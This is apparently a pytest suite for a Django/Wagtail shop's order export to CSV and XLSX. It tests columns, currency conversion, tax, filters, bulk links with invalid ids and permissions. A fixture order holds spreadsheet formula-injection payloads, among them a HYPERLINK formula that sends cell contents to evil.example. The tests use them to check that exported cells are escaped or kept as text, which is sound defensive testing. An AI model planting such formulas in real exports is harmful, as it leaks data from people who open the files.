"""Order exports: CSV and XLSX of the filtered or selected orders, one row per line, never a formula."""

import csv
import io
from decimal import Decimal

import pytest
from django.conf import settings
from django.contrib.messages import get_messages
from openpyxl import load_workbook
from wagtail.users.models import UserProfile

from checkout.backoffice.exports import safe_text
from checkout.models import Order, ShippingMethod
from checkout.orders import services
from demo.shipping import ensure_shipping_and_taxes

from .conftest import ListCart
from .factories import CUSTOMER, make_order, user_in_group

pytestmark = pytest.mark.django_db

HEADER = [
    "Order", "Placed (UTC)", "Status", "Language", "Currency", "First name", "Last name", "Email", "Address",
    "Postal code", "City", "Country", "Tax ID", "Subtotal", "Discount", "Shipping method", "Shipping",
    "Prices include tax", "Tax", "Total", "SKU", "Product", "Unit price", "Quantity", "Line total", "Line discount",
    "Tax rate (%)", "Line net", "Line tax", "Line gross", "Market", "Exchange rate", "Total in base currency (USD)",
]  # fmt: skip


@pytest.fixture
def manager(client, django_user_model):
    user = user_in_group(django_user_model, settings.SHOP_MANAGERS_GROUP, "checkout.view_order")
    client.force_login(user)
    return user


@pytest.fixture
def orders(shop):
    ana = make_order([(shop["kettle"], 2), (shop["mug"], 1)], number="SF-000001")
    mallory = make_order(
        [(shop["mug"], 1)],
        number="SF-000002",
        first_name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        last_name="+1+1",
        address="-2+3",
        city="@SUM(A1:A9)",
        postal_code="\t0800",
        email="mallory@example.com",
        status=Order.Status.PAID,
    )
    return {"ana": ana, "mallory": mallory}


def read_csv(response):
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ana", "Ana"),
        ("a=b", "a=b"),
        (Decimal("24.50"), "24.50"),
        (3, "3"),
        (None, ""),
    ],
)
def test_no_csv_cell_can_start_a_formula(value, cell):
    assert safe_text(value) == cell


def test_the_csv_has_one_row_per_line_with_the_order_repeated(client, manager, orders):
    rows = read_csv(client.get("/admin/orders/?export=csv"))

    assert rows[0] == HEADER
    ana_rows = [row for row in rows[1:] if row[0] == "SF-000001"]
    email = orders["ana"].email
    assert [row[2:12] for row in ana_rows] == [
        ["Pending payment", "en", "USD", "Ana", "Pérez", email, "Calle Mayor 1", "28001", "Madrid", "ES"]
    ] * 2
    assert [row[12:] for row in ana_rows] == [
        ["", "57.00", "0.00", "", "0.00", "True", "0.00", "57.00", "KET-1", "Kettle", "24.50", "2", "49.00"]
        + ["0.00", "0.00", "49.00", "0.00", "49.00", "", "1.0000000000", "57.00"],
        ["", "57.00", "0.00", "", "0.00", "True", "0.00", "57.00", "MUG-1", "Mug", "8.00", "1", "8.00"]
        + ["0.00", "0.00", "8.00", "0.00", "8.00", "", "1.0000000000", "57.00"],
    ]
    assert len(rows) == 1 + 3


def test_an_order_of_another_market_is_exported_with_its_rate_and_base_currency_total(client, manager, shop):
    make_order(
        [(shop["kettle"], 2)], number="SF-000003", currency="eur", market_name="Eurozone", exchange_rate=Decimal("0.92")
    )

    rows = read_csv(client.get("/admin/orders/?export=csv"))

    (row,) = rows[1:]
    assert row[4] == "EUR"
    assert row[19] == "49.00"  # the total, in euros
    assert row[-3:] == ["Eurozone", "0.9200000000", "53.26"]  # 49.00 / 0.92 in US dollars, the base currency


def test_customer_text_never_becomes_a_formula_in_the_csv(client, manager, orders):
    rows = read_csv(client.get("/admin/orders/?export=csv&status=paid"))

    (row,) = rows[1:]
    assert row[5:11] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "'+1+1",
        "mallory@example.com",
        "'-2+3",
        "'\t0800",
        "'@SUM(A1:A9)",
    ]


def test_the_csv_follows_the_lists_filters_and_search(client, manager, orders):
    by_status = read_csv(client.get("/admin/orders/?export=csv&status=pending"))
    by_search = read_csv(client.get("/admin/orders/?export=csv&q=mallory"))

    assert {row[0] for row in by_status[1:]} == {"SF-000001"}
    assert {row[0] for row in by_search[1:]} == {"SF-000002"}


def test_selected_orders_export_through_the_bulk_action(client, manager, orders):
    response = client.get(f"/admin/bulk/checkout/order/export_csv/?id={orders['mallory'].pk}")

    rows = read_csv(response)
    assert response["Content-Disposition"] == 'attachment; filename="orders-selected.csv"'
    assert [row[0] for row in rows[1:]] == ["SF-000002"]


def test_the_xlsx_keeps_text_as_text_and_numbers_as_numbers(client, manager, orders):
    response = client.get(f"/admin/bulk/checkout/order/export_xlsx/?id={orders['mallory'].pk}&id={orders['ana'].pk}")

    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]] == HEADER
    assert [row[0].value for row in rows[1:]] == ["SF-000001", "SF-000001", "SF-000002"]
    name = rows[3][5]
    assert (name.value, name.data_type) == ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "s")
    assert (rows[1][19].value, rows[1][19].data_type) == (57, "n")
    assert rows[1][23].value == 2


def test_the_filtered_xlsx_download(client, manager, orders):
    response = client.get("/admin/orders/?export=xlsx&status=paid")

    sheet = load_workbook(io.BytesIO(response.content)).active
    assert response["Content-Disposition"] == 'attachment; filename="orders.xlsx"'
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["SF-000002"]


def test_shipping_and_tax_are_exported_per_order_and_per_line(client, manager, shop):
    ensure_shipping_and_taxes()
    post = ShippingMethod.objects.get(name="International post", locale__language_code="en")
    customer = {**CUSTOMER, "country": "RU", "tax_id": "7701234567"}
    order = services.place_order(ListCart((shop["kettle"], 1)), customer, "en", shipping_method=post.pk)

    (row,) = read_csv(client.get(f"/admin/bulk/checkout/order/export_csv/?id={order.pk}"))[1:]

    assert row[11:20] == ["RU", "7701234567", "24.50", "0.00", "International post", "14.95", "True", "6.57", "39.45"]
    assert row[24:30] == ["24.50", "0.00", "20.00", "20.42", "4.08", "24.50"]
    assert row[30:] == ["", "1.0000000000", "39.45"]  # no market: the base currency, at par


def shown_messages(response) -> list[str]:
    """The admin's messages for the request (Wagtail renders each with trailing whitespace)."""
    return [str(message).strip() for message in get_messages(response.wsgi_request)]


@pytest.mark.parametrize("action", ["export_csv", "export_xlsx"])
@pytest.mark.parametrize("ids", ["id=abc", "id=%00", "id=", "id=1.5", "id=99999999999999999999", "id=1&id=x"])
def test_a_bulk_export_link_with_an_impossible_id_goes_back_to_the_list_with_a_message(
    client, manager, orders, action, ids
):
    response = client.get(f"/admin/bulk/checkout/order/{action}/?next=/admin/orders/&{ids}")

    assert response.status_code == 302
    assert response["Location"] == "/admin/orders/"
    assert shown_messages(response) == [
        "This link names orders that cannot exist. Please select them in the list again."
    ]


def test_without_next_an_impossible_id_goes_to_the_admin_home(client, manager):
    response = client.get("/admin/bulk/checkout/order/export_csv/?id=abc")

    assert (response.status_code, response["Location"]) == (302, "/admin/")


def test_a_bulk_export_link_pointing_back_at_itself_does_not_loop(client, manager):
    response = client.get("/admin/bulk/checkout/order/export_csv/?id=abc&next=/admin/bulk/checkout/order/export_csv/")

    assert (response.status_code, response["Location"]) == (302, "/admin/")


def test_the_message_is_in_the_managers_language(client, manager):
    profile = UserProfile.get_for_user(manager)
    profile.preferred_language = "es"
    profile.save()

    response = client.get("/admin/bulk/checkout/order/export_csv/?id=abc")

    assert shown_messages(response) == [
        "Este enlace nombra pedidos que no pueden existir. Vuelva a seleccionarlos en la lista."
    ]


def test_an_impossible_id_tells_nothing_to_someone_without_the_right_to_see_orders(client, django_user_model):
    client.force_login(user_in_group(django_user_model, "Editors"))

    response = client.get("/admin/bulk/checkout/order/export_csv/?id=abc")

    assert (response.status_code, response["Location"]) == (302, "/admin/")
    assert shown_messages(response) == ["Sorry, you do not have permission to access this area."]
